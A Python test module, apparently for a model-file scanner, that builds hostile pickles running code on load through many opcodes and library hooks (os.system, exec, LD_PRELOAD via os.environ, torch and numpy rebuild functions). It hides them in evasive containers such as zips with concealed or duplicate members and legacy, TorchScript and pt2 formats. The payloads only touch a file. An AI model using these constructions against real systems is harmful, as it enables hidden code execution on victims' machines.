"""Files that would run code when they are loaded: every way in which a pickle can call, in every file that holds pickles.

What they call is `evil.run` or a builtin that touches a file: whoever opens them in a folder with an `evil.py` sees
whether anything happened.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.hostile.files import Files, lay
from tests.hostile.originals import tarred

MAGIC = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
INFO = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
EMPTY = b"\x80\x02}."

EVIL = """\
open("pwned", "w").close()

def run(*arguments):
    open("pwned", "w").close()

class Thing:
    make = run
    def __new__(cls, *arguments, **keywords):
        open("pwned", "w").close()
        return object.__new__(cls)
    def __setstate__(self, state):
        open("pwned", "w").close()
"""


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, path: str) -> bytes:
    return f"c{module}\n{path}\n".encode()


def legacy(pickled: bytes, layout: bytes = b"\x80\x02M\xe9\x03.", keys: bytes = b"\x80\x02].") -> bytes:
    return MAGIC + layout + INFO + pickled + keys


RUN, THING, WORD = name("evil", "run"), name("evil", "Thing"), text("touch pwned")
CALL = RUN + WORD + b"\x85R"
OPEN = text("open('pwned', 'w')")
EMPTY_LAYER = text("_parameters") + b"}" + text("_buffers") + b"}" + text("_modules") + b"}"
STORAGE = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x00tQ"

SHAPES: dict[str, tuple[bytes, str]] = {
    "REDUCE": (CALL, "evil.run"),
    "REDUCE of os.system": (name("os", "system") + WORD + b"\x85R", "os.system"),
    "INST": (b"(" + WORD + b"ievil\nrun\n", "evil.run"),
    "OBJ": (b"(" + RUN + WORD + b"o", "evil.run"),
    "NEWOBJ": (THING + WORD + b"\x85\x81", "evil.Thing"),
    "NEWOBJ_EX": (THING + b")}" + text("x") + WORD + b"s\x92", "evil.Thing"),
    "BUILD with __setstate__": (THING + b")\x81}" + text("x") + WORD + b"sb", "evil.Thing"),
    "BUILD of a class": (THING + b"}" + text("__reduce__") + RUN + b"sb", "evil.Thing.__setstate__"),
    "STACK_GLOBAL": (text("evil") + text("run") + b"\x93" + WORD + b"\x85R", "evil.run"),
    "a dotted name": (text("evil") + text("Thing.make") + b"\x93" + WORD + b"\x85R", "evil.Thing.make"),
    "EXT": (name("copyreg", "add_extension") + b"(" + text("evil") + text("run") + b"K\x07tR0\x82\x07" + WORD + b"\x85R", "copyreg.extension 7"),
    "a persistent id": (CALL + b"Q", "evil.run"),
    "a storage of a class of its own": (b"(" + text("storage") + CALL + text("0") + text("cpu") + b"K\x01tQ", "evil.run"),
    "nested _load_from_bytes": (name("torch.storage", "_load_from_bytes") + data(legacy(b"\x80\x02" + CALL + b".")) + b"\x85R", "evil.run"),
    "nested pickle.loads": (name("pickle", "loads") + data(CALL + b".") + b"\x85R", "evil.run"),
    "an array of objects": (
        name("numpy.core.multiarray", "_reconstruct") + name("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R(K\x01K\x01\x85"
        + name("numpy", "dtype") + text("O8") + b"\x89\x88\x87R\x89](" + CALL + b"etb", "evil.run"),
    "dill": (
        name("dill._dill", "_create_function") + b"(" + name("dill._dill", "_create_code") + b"(K\x00K\x00K\x00C\x04code)))" + text("f")
        + b"tR}" + text("f") + b"NNtR)R", "dill._dill._create_code"),
    "cloudpickle": (
        name("cloudpickle.cloudpickle", "_make_function") + b"(" + name("cloudpickle.cloudpickle", "_builtin_type") + text("CodeType")
        + b"\x85R(K\x00K\x00C\x02xxtR}NNNtR)R", "cloudpickle.cloudpickle._make_function"),
    "exec": (name("builtins", "exec") + OPEN + b"\x85R", "builtins.exec"),
    "eval by map": (name("builtins", "list") + name("builtins", "map") + name("builtins", "eval") + OPEN + b"\x85\x86R\x85R", "builtins.map"),
    "getattr": (
        name("builtins", "getattr") + name("builtins", "__import__") + text("evil") + b"\x85R" + text("run") + b"\x86R" + WORD + b"\x85R",
        "builtins.__import__"),
    "setting an item": (name("os", "environ") + text("LD_PRELOAD") + WORD + b"s", "os.environ.__setitem__"),
    "appending": (name("sys", "path") + text("/tmp") + b"a", "sys.path.extend"),
    "in a key": (b"}" + CALL + b"Ns", "evil.run"),
    "in the hooks of a tensor": (
        name("torch._utils", "_rebuild_tensor_v2") + b"(" + STORAGE + b"K\x00K\x00\x85K\x01\x85\x89" + name("collections", "OrderedDict")
        + b"](](K\x01" + CALL + b"ee\x85RtR", "evil.run"),
    "a subclass of a tensor": (name("torch._tensor", "_rebuild_from_type_v2") + b"(" + RUN + THING + WORD + b"\x85}tR", "torch._tensor._rebuild_from_type_v2"),
    "in a layer": (name("torch.nn.modules.linear", "Linear") + b")\x81}(" + EMPTY_LAYER + text("a") + CALL + text("forward") + RUN + b"ub", "evil.run"),
    "before it breaks": (CALL + b"0\xff\xff", "evil.run"),
    "behind a number in hexadecimal": (b"I0x10\n0" + CALL, "evil.run"),
    "the import alone": (name("evil", "nothing"), "evil.nothing"),
}  # fmt: skip
"""A pickle's opcodes without its beginning and STOP, each pushing one object, and what a scan has to name."""


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return stream.getvalue()


def zip_of(pickled: bytes, method: int = zipfile.ZIP_STORED, **others: bytes) -> bytes:
    records = {"a/data.pkl": pickled, "a/version": b"3\n", "a/byteorder": b"little"}
    return zipped(records | {f"a/{key.replace('_', '.')}": content for key, content in others.items()}, method)


def twice(*pickles: bytes) -> bytes:
    """An archive with several members of one name."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive, warnings.catch_warnings(action="ignore"):
        for content in pickles:
            archive.writestr("a/data.pkl", content)
        archive.writestr("a/version", b"3\n")
    return stream.getvalue()


def left_out(pickled: bytes) -> bytes:
    """An archive whose directory leaves out its second member, the one that is hostile."""
    whole = bytearray(zipped({"a/data.pkl": EMPTY, "a/extra.pkl": pickled, "a/version": b"3\n"}))
    end = whole.index(b"PK\x05\x06")
    start = whole.index(b"PK\x01\x02", whole.index(b"PK\x01\x02") + 4)
    length = 46 + len("a/extra.pkl")
    size, offset = struct.unpack_from("<2I", whole, end + 12)
    struct.pack_into("<2H2I", whole, end + 8, 2, 2, size - length, offset)
    del whole[start : start + length]
    return bytes(whole)


def cut(pickled: bytes) -> bytes:
    whole = zip_of(pickled)
    return whole[: whole.index(b"PK\x01\x02")]


def npy(pickled: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def script(pickled: bytes, constants: bytes) -> bytes:
    code = b"import evil\nclass M(Module):\n  __parameters__ = []\n  __buffers__ = []\n"
    return zipped({"a/data.pkl": pickled, "a/code/__torch__.py": code, "a/constants.pkl": constants, "a/version": b"3\n"})


def pt2(pickled: bytes) -> bytes:
    program = {"graph_module": {"graph": {"nodes": []}, "signature": {"input_specs": []}}, "torch_version": "2.13"}
    weight = {"path_name": "weight_0", "is_param": True, "use_pickle": True, "tensor_meta": None}
    return zipped({
        "a/archive_format": b"pt2", "a/archive_version": b"0", "a/models/model.json": json.dumps(program).encode(),
        "a/data/weights/model_weights_config.json": json.dumps({"config": {"w": weight}}).encode(),
        "a/data/weights/weight_0": zip_of(pickled), "a/data/constants/model_constants_config.json": b'{"config": {}}',
    })  # fmt: skip


def old_pt2(pickled: bytes) -> bytes:
    program = json.dumps({"graph_module": {"signature": {"input_specs": []}}}).encode()
    return zipped(
        {"serialized_exported_program.json": program, "serialized_state_dict.pt": zip_of(pickled), "version": b"6.1"}
    )


def package(pickled: bytes) -> bytes:
    return zipped(
        {"a/.data/extern_modules": b"evil", "a/.data/version": b"6", "a/m/m.pkl": pickled, "a/evil.py": EVIL.encode()}
    )


def tar(pickled: bytes, storages: bytes = b"\x80\x02K\0.\x80\x02].") -> bytes:
    return tarred({"sys_info": INFO, "pickle": pickled, "tensors": b"\x80\x02K\0.", "storages": storages})


def distributed(pickled: bytes) -> Files:
    """A distributed checkpoint whose one entry, which is no tensor, is hostile."""
    entry = zip_of(pickled)
    metadata, place = "torch.distributed.checkpoint.metadata", "torch.distributed.checkpoint.filesystem"
    index = name(metadata, "MetadataIndex") + b")\x81}(" + text("fqn") + text("x") + text("offset") + b"Nub"
    info = (
        name(place, "_StorageInfo") + b")\x81}(" + text("relative_path") + text("__0_0.distcp") + text("offset") + b"K\x00"
    )
    info += text("length") + b"J" + struct.pack("<i", len(entry)) + b"ub"
    body = name(metadata, "Metadata") + b")\x81}(" + text("state_dict_metadata") + b"}" + text("x")
    body += name(metadata, "BytesStorageMetadata") + b")\x81s" + text("planner_data") + b"}"
    body += text("storage_data") + b"}" + index + info + b"sub"
    return {".metadata": b"\x80\x04" + body + b".", "__0_0.distcp": entry}


def sharded(pickled: bytes) -> Files:
    index = {"weight_map": {"w": "pytorch_model-00001-of-00001.bin"}}
    return {"pytorch_model.bin.index.json": json.dumps(index).encode(), "pytorch_model-00001-of-00001.bin": zip_of(pickled)}


def deepspeed(pickled: bytes) -> Files:
    return dict.fromkeys(("mp_rank_00_model_states.pt", "zero_pp_rank_0_mp_rank_00_optim_states.pt"), zip_of(pickled))


def alone(make: Callable[[bytes], bytes]) -> Callable[[bytes], Files]:
    return lambda pickled: {"": make(pickled)}


CONTAINERS: dict[str, Callable[[bytes], Files]] = {
    "zip": alone(zip_of),
    "zip, packed": alone(lambda p: zip_of(p, zipfile.ZIP_DEFLATED)),
    "zip, another member": alone(lambda p: zip_of(EMPTY, extra_bin=p)),
    "zip, behind a twin": alone(lambda p: twice(EMPTY, p)),
    "zip, left out by the directory": alone(left_out),
    "zip, behind STOP": alone(lambda p: zip_of(EMPTY + p)),
    "zip, cut off": alone(cut),
    "legacy": alone(legacy),
    "legacy, the version": alone(lambda p: legacy(EMPTY, layout=p)),
    "legacy, the list of keys": alone(lambda p: legacy(EMPTY, keys=p)),
    "tar": alone(tar),
    "tar, the storages": alone(lambda p: tar(EMPTY, b"\x80\x02K\x01." + p)),
    "TorchScript": alone(lambda p: script(p, b"\x80\x02).")),
    "TorchScript, the constants": alone(lambda p: script(EMPTY, p)),
    "pt2": alone(pt2),
    "pt2 of 2.6": alone(old_pt2),
    "torch.package": alone(package),
    "npy": alone(npy),
    "npz": alone(lambda p: zipped({"a.npy": npy(p)}, zipfile.ZIP_DEFLATED)),
    "distributed, the metadata": lambda p: {".metadata": p, "__0_0.distcp": zip_of(EMPTY)},
    "distributed, an entry": distributed,
    "a pickle alone": alone(bytes),
    "a pickle behind a pickle": alone(lambda p: b"\x80\x04}." + p),
    "gzip": alone(lambda p: gzip.compress(zip_of(p), mtime=0)),
    "bzip2": alone(bz2.compress),
    "xz": alone(lambda p: lzma.compress(legacy(p))),
    "shards": sharded,
    "DeepSpeed": deepspeed,
}
"""What a pickle can lie in."""


def write(shape: str, container: str, folder: Path) -> Path:
    """One combination as a file or folder, in a folder that has the `evil` module and becomes the current one."""
    (folder / "evil.py").write_text(EVIL)
    os.chdir(folder)
    files = CONTAINERS[container](b"\x80\x04" + SHAPES[shape][0] + b".")
    return lay(folder / f"{container}, {shape}", files)
